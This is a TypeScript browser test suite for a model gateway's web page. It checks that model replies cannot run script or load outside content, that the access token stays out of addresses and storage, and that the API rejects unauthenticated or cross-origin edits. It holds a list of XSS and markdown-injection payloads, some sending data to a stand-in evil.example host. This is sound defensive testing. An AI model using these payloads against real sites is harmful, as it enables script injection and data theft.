import { readdir, readFile, rm } from "node:fs/promises";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { buildPage, chromiumPath, type PageUnderTest, startPage } from "./page-under-test.ts";
import { type ScriptedRouter, startScriptedRouter } from "./scripted-router.ts";

const TOKEN = "ocg_test_0123456789abcdef";
const BUDGET_BYTES = 150 * 1024;

/** What a model might say to get a script run, a form sent or an address visited. */
const HOSTILE = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
  "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
  "<iframe src='javascript:parent.pwned=1'></iframe>",
  "<details open ontoggle='window.pwned = 1'>x</details>",
  "<form action='https://evil.example/steal'><input name=q autofocus onfocus='window.pwned = 1'><button>go</button></form>",
  "<style>body { display: none }</style><link rel=stylesheet href='https://evil.example/x.css'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href='https://evil.example/'>",
  "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
  "[run](javascript:window.pwned=1)",
  "[run](JaVaScRiPt&colon;window.pwned=1)",
  "[run](&#106;avascript:window.pwned=1)",
  "[run](data:text/html,<script>window.pwned=1</script>)",
  "[run](vbscript:x)",
  "![pixel](https://evil.example/pixel.png?secret=1)",
  '![x](https://evil.example/a.png"onerror="window.pwned=1)',
  '[x](https://evil.example/ "title\\" onmouseover=\\"window.pwned=1")',
  "<https://evil.example/auto>",
  "```html\n<script>window.pwned = 1</script>\n```",
  "`<img src=x onerror=window.pwned=1>`",
  "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | d |",
  "</div></article><script>window.pwned = 1</script>",
  "<a href='https://evil.example' style='position:fixed;inset:0' class='button' id='app'>cover</a>",
] as const;

describe.skipIf(chromiumPath === undefined)("a hostile model", () => {
  let router: ScriptedRouter;
  let site: PageUnderTest;

  beforeAll(async () => {
    router = await startScriptedRouter();
    site = await startPage({ gateway: { baseUrl: router.baseUrl } });
  });
  afterAll(async () => {
    await site.close();
    await router.close();
  });

  it("can run no script, load nothing, and leave no element that could", async () => {
    const page = await site.open("playground");
    for (const [index, text] of HOSTILE.entries()) {
      // In one piece, and letter by letter: half a tag must be as harmless as a whole one.
      router.say(...(index % 2 === 0 ? [text] : [...text]));
      await page.getByLabel("Message", { exact: true }).fill("Go");
      await page.keyboard.press("Enter");
      await page.locator(".turn").nth(index).locator(".answer.is-done").waitFor();
    }
    router.say(HOSTILE.join("\n\n"));
    await page.getByLabel("Message", { exact: true }).fill("All at once");
    await page.keyboard.press("Enter");
    const last = page.locator(".turn").nth(HOSTILE.length).locator(".answer.is-done");
    await last.waitFor();

    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    const found = await page.locator(".pane-log").evaluate((log) => {
      const tags =
        "script, iframe, img, svg, object, embed, form, input, style, link, meta, base, math, video, audio";
      return {
        tags: [...log.querySelectorAll(tags)]
          .filter((node) => !node.closest("button"))
          .map((node) => node.outerHTML),
        attributes: [...log.querySelectorAll(".markdown *")].flatMap((node) =>
          [...node.attributes]
            .map(({ name }) => name)
            .filter((name) => /^on|^style$|^id$|^srcdoc$/.test(name)),
        ),
        links: [...log.querySelectorAll(".markdown a")].map((link) => ({
          href: link.getAttribute("href") ?? "",
          rel: link.getAttribute("rel"),
          target: link.getAttribute("target"),
        })),
      };
    });
    expect(found.tags).toEqual([]);
    expect(found.attributes).toEqual([]);
    expect(found.links.length).toBeGreaterThan(0);
    for (const link of found.links) {
      expect(link.href).toMatch(/^(https?:\/\/|$)/);
      expect(link).toMatchObject({ rel: "noopener noreferrer nofollow", target: "_blank" });
    }
    // The code is there to be read.
    await last.locator("pre").getByText("<script>window.pwned = 1</script>").waitFor();
    expect(site.requestedUrls.filter((url) => !url.startsWith(site.url))).toEqual([]);
    expect(site.complaints).toEqual([]);
    await page.context().close();
  });

  it("cannot make its name, its backend or its error into markup", async () => {
    const page = await site.open("playground");
    await page.getByLabel("Model of conversation").fill("<img src=x onerror=window.pwned=1>");
    await page.getByLabel("Message", { exact: true }).fill("Hi");
    await page.keyboard.press("Enter");
    await page.getByRole("alert").waitFor();
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    await page.goto(`${site.url}/#/activity`);
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    await page.goto(`${site.url}/#/models/<img src=x onerror=window.pwned=1>/x`);
    await page.getByRole("heading", { name: "Models" }).waitFor();
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    expect(site.complaints).toEqual([]);
    await page.context().close();
  });
});

describe.skipIf(chromiumPath === undefined)("a page that needs the gateway's token", () => {
  let site: PageUnderTest;
  let page: Page;

  beforeAll(async () => {
    site = await startPage({ gateway: { auth: { mode: "token", token: TOKEN } } });
  });
  afterAll(() => site.close());
  afterEach(async () => {
    await page.context().close();
    expect(site.complaints).toEqual([]);
  });

  it("asks for it once, keeps it for the tab, and puts it into no address", async () => {
    page = await site.open("models");
    const field = page.getByLabel(/^Gateway token/);
    await field.fill("wrong");
    await page.getByRole("button", { name: "Open" }).click();
    await page.getByText("That is not this gateway's token.").waitFor();
    await field.fill(TOKEN);
    await page.getByRole("button", { name: "Open" }).click();
    await page.getByRole("table").waitFor();
    await page.getByText("Hugging Face", { exact: true }).waitFor();

    await page.reload();
    await page.getByRole("table").waitFor();
    await page.goto(`${site.url}/#/playground`);
    await page.getByLabel("Message", { exact: true }).fill("Hi");
    await page.keyboard.press("Enter");
    await page.locator(".answer.is-done").waitFor();

    expect(site.requestedUrls.filter((url) => url.includes(TOKEN))).toEqual([]);
    expect(await page.evaluate(() => document.cookie + JSON.stringify(localStorage))).not.toContain(TOKEN);
    const other = await page.context().newPage();
    await other.goto(`${site.url}/`);
    await other.getByLabel(/^Gateway token/).waitFor();
  });

  it("takes neither a token nor an endpoint from its address", async () => {
    page = await site.open("models");
    await page.goto(`${site.url}/?token=${TOKEN}&baseUrl=https://evil.example/v1#/models?token=${TOKEN}`);
    await page.getByLabel(/^Gateway token/).waitFor();
    const storage = await page.evaluate(() => JSON.stringify(sessionStorage) + JSON.stringify(localStorage));
    expect(storage).not.toContain(TOKEN);
    expect(site.requestedUrls.filter((url) => !url.startsWith(site.url))).toEqual([]);
  });

  it("never writes it into the code it offers", async () => {
    page = await site.open("playground");
    await page.getByLabel(/^Gateway token/).fill(TOKEN);
    await page.getByRole("button", { name: "Open" }).click();
    await page.getByRole("button", { name: "As code" }).click();
    for (const language of ["curl", "JavaScript", "Python"]) {
      await page.getByText(language, { exact: true }).click();
      const code = (await page.getByRole("dialog").locator("pre").textContent()) ?? "";
      expect(code).toContain("OPENCLAW_GATEWAY_TOKEN");
      expect(code).not.toContain(TOKEN);
    }
  });

  it("serves its own files to anyone and everything else to nobody without the token", async () => {
    page = await site.open("models");
    const status = async (path: string, init?: RequestInit) =>
      (await fetch(`${site.url}${path}`, init)).status;
    expect(await status("/")).toBe(200);
    for (const path of ["status", "selection", "catalog", "events"]) {
      expect(await status(`/openclaw/api/${path}`)).toBe(401);
    }
    const edit = { method: "POST", body: '{"op":"set-default","ref":"Qwen/Qwen3-8B"}' };
    const json = { "content-type": "application/json" };
    expect(await status("/openclaw/api/edits", { ...edit, headers: json })).toBe(401);
    const bearer = { authorization: `Bearer ${TOKEN}` };
    expect(
      await status("/openclaw/api/edits", { ...edit, headers: { ...bearer, "content-type": "text/plain" } }),
    ).toBeGreaterThanOrEqual(400);
    const foreign = { ...json, ...bearer, origin: "https://evil.example" };
    expect(await status("/openclaw/api/edits", { ...edit, headers: foreign })).toBe(403);
    expect(site.gateway.status().defaultModel).toBe("deepseek-ai/DeepSeek-R1");
  });
});

describe("the built page", () => {
  let folder: string;

  beforeAll(async () => {
    folder = await buildPage();
  });
  afterAll(() => rm(folder, { recursive: true }));

  it("is under 150 KB, gzipped, in all", async () => {
    const names = await readdir(folder, { recursive: true, withFileTypes: true });
    const sizes = await Promise.all(
      names
        .filter((entry) => entry.isFile())
        .map(
          async (entry) =>
            gzipSync(await readFile(join(entry.parentPath, entry.name)), { level: 9 }).byteLength,
        ),
    );
    expect(sizes.length).toBeGreaterThanOrEqual(4);
    expect(sizes.reduce((total, size) => total + size, 0)).toBeLessThan(BUDGET_BYTES);
  });

  it("has no inline script or style, and names no other host to load from", async () => {
    const html = await readFile(join(folder, "index.html"), "utf8");
    expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\sstyle=|\son\w+=/i);
    expect(html).not.toMatch(/(src|href)="(https?:)?\/\//);
    const css = await readFile(
      join(
        folder,
        "assets",
        (await readdir(join(folder, "assets"))).find((name) => name.endsWith(".css")) ?? "",
      ),
      "utf8",
    );
    expect(css).not.toMatch(/@import|url\(/);
  });
});
